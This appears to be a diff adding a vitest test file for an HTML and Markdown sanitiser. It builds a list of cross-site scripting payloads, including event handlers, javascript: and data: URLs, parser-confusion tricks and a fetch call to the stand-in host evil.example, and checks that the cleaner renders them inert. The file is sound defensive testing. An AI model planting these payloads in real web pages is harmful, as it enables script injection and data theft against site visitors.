@@ -1,0 +1,89 @@
+import { Window } from "happy-dom";
+import { expect, it } from "vitest";
+import { cleanHtml, htmlFromText, textFromHtml } from "./cleaning.ts";
+
+const scripts = ["alert(1)", "fetch('//evil.example')"];
+const wrappers = [
+  (js: string) => `<script>${js}</script>`,
+  (js: string) => `<img src=x onerror="${js}">`,
+  (js: string) => `<svg onload="${js}"><animate onbegin="${js}"></svg>`,
+  (js: string) => `<svg><script>${js}</script></svg>`,
+  (js: string) =>
+    `<math><mtext><table><mglyph><style><img src onerror="${js}"></style></mglyph></table></mtext></math>`,
+  (js: string) => `<a href="javascript:${js}">go</a>`,
+  (js: string) => `<a href="JaVa&#x09;ScRiPt:${js}">go</a>`,
+  (js: string) => `<a href=" \u0001javascript:${js}">go</a>`,
+  (js: string) => `<a href="data:text/html,<script>${js}</script>">go</a>`,
+  (js: string) => `<a href="vbscript:${js}">go</a>`,
+  (js: string) => `<a href="//evil.example" onclick="${js}">go</a>`,
+  (js: string) => `<p onmouseover="${js}" style="background:url(javascript:${js})">go</p>`,
+  (js: string) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
+  (js: string) => `<object data="javascript:${js}"></object><embed src="javascript:${js}">`,
+  (js: string) => `<form action="javascript:${js}"><button formaction="javascript:${js}">go</button></form>`,
+  (js: string) => `<input autofocus onfocus="${js}"><textarea></textarea><script>${js}</script>`,
+  (js: string) => `<meta http-equiv="refresh" content="0;javascript:${js}"><base href="javascript:${js}//">`,
+  (js: string) =>
+    `<style>@import 'javascript:${js}';*{x:expression(${js})}</style><link rel=stylesheet href=//evil.example>`,
+  (js: string) => `<<script>script>${js}</script>`,
+  (js: string) => `<scr<script>ipt>${js}</scr</script>ipt>`,
+  (js: string) => `<!--><img src=x onerror="${js}">-->`,
+  (js: string) => `<![CDATA[<img src=x onerror="${js}">]]>`,
+  (js: string) => `<noscript><p title="</noscript><img src=x onerror='${js}'>"></noscript>`,
+  (js: string) => `<template><img src=x onerror="${js}"></template>`,
+  (js: string) => `<video><source onerror="${js}"></video><details open ontoggle="${js}">`,
+  (js: string) => `<xmp><img src=x onerror="${js}"></xmp><plaintext><img src=x onerror="${js}">`,
+  (js: string) => `<body onload="${js}"><html onclick="${js}">`,
+  (js: string) => `<a href="mailto:x@example.com" target="_blank" id="x" name="y" class="z" onfocus="${js}">go</a>`,
+];
+const hostile = scripts.flatMap((js) => wrappers.map((wrap) => wrap(js)));
+const inMarkdown = hostile.flatMap((html) => [html, `**bold** ${html}`]);
+const links = [
+  "[go](javascript:alert(1))",
+  "[go](data:text/html;base64,PHNjcmlwdD4=)",
+  "<javascript:alert(1)>",
+  "![x](https://evil.example/pixel.gif)",
+  `[go](https://a.example "x\\" onclick=\\"alert(1)")`,
+];
+
+const allowed = new Set(["P", "BR", "STRONG", "EM", "U", "UL", "OL", "LI", "H2", "H3", "A"]);
+/** What a browser makes of it. */
+const parsed = (html: string) => {
+  const { document } = new Window();
+  document.body.innerHTML = html;
+  return [...document.body.querySelectorAll("*")];
+};
+const inert = (html: string) => {
+  for (const element of parsed(html)) {
+    expect([html, allowed.has(element.tagName)]).toEqual([html, true]);
+    for (const name of element.getAttributeNames()) {
+      expect([html, element.tagName, name]).toEqual([html, "A", "href"]);
+      expect(element.getAttribute(name)).toMatch(/^(https?:|mailto:)/);
+    }
+  }
+};
+
+it("G2-33: hostile HTML becomes inert, as HTML and in Markdown", () => {
+  expect(hostile.length + inMarkdown.length).toBeGreaterThan(100);
+  for (const html of hostile) inert(cleanHtml(html));
+  for (const text of [...inMarkdown, ...links]) inert(htmlFromText(text));
+});
+
+it("clean HTML stays clean, and hostile HTML is not made hostile by a second pass", () => {
+  for (const html of hostile) expect(cleanHtml(cleanHtml(html))).toBe(cleanHtml(html));
+});
+
+it("a little Markdown is kept: paragraphs, lines, lists, headings, emphasis and links", () => {
+  const text =
+    "# Camps\n\nHi **Dana**,\nsee *this*:\n\n- one\n- [two](https://fungo.example/camps)\n\n1. [mail](mailto:a@b.example)";
+  expect(htmlFromText(text).replaceAll("\n", "")).toBe(
+    "<h2>Camps</h2><p>Hi <strong>Dana</strong>,<br />see <em>this</em>:</p>" +
+      '<ul><li>one</li><li><a href="https://fungo.example/camps">two</a></li></ul>' +
+      '<ol><li><a href="mailto:a@b.example">mail</a></li></ol>',
+  );
+});
+
+it("text is made of HTML, with its links", () => {
+  expect(
+    textFromHtml('<h2>Camps</h2><p>Hi <strong>Dana</strong>, see <a href="https://a.example/x">this</a>.</p>'),
+  ).toBe("Camps\n\nHi Dana, see this (https://a.example/x).");
+});
